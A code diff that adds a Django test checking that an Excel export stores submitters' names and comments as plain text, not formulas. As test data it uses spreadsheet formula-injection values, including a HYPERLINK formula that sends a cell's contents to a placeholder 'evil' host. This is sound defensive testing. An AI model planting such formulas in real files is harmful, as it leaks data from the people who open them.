@@ -327,6 +327,40 @@ def test_excel_export_has_the_rates_and_the_changes(world, changes_world, deadli
     assert [row[0] for row in late[1:]] == ["Spesialist b_late"]
 
 
+def test_names_and_comments_are_never_formulas_in_the_excel_export(world, changes_world, deadline_world):
+    """Submitters' names, municipality users' comments and their names are text cells, as written, whatever
+    they start with; the counts beside them are numbers."""
+    deadline, people = deadline_world
+    Submitter.objects.filter(pk=world.municipality.pk).update(name="=1+1")
+    Submitter.objects.filter(pk=people["b_late"].pk).update(name="@SUM(A1)")
+    ChangeComment.objects.filter(submitter=world.municipality).update(text='=HYPERLINK("http://evil/?"&A1,"klikk")')
+    world.municipality_user.first_name, world.municipality_user.last_name = "+cmd", "-2+3"
+    world.municipality_user.save()
+
+    export = reverse("submissions:daily:overview_export")
+    client = client_for(world.staff_user)
+    workbook = load_workbook(io.BytesIO(client.get(export, {"aar": YEAR}).content))
+    oslo = next(workbook.worksheets[1].iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in oslo] == [
+        ("=1+1", "s"),
+        ("0301", "s"),
+        ("6", "s"),
+        ("6 Trygghetsalarm", "s"),
+        (0, "n"),
+        (15, "n"),
+        (-15, "n"),
+        (-100.0, "n"),
+        ('=HYPERLINK("http://evil/?"&A1,"klikk")', "s"),
+        ("+cmd -2+3", "s"),
+    ]
+
+    workbook = load_workbook(
+        io.BytesIO(client.get(export, {"aar": 2030, "frist": deadline.pk, "status": "late"}).content)
+    )
+    late = list(workbook.worksheets[2].iter_rows(min_row=2))
+    assert [(row[0].value, row[0].data_type) for row in late] == [("@SUM(A1)", "s")]
+
+
 # -- refresh and queries ---------------------------------------------------------------------------
 
 
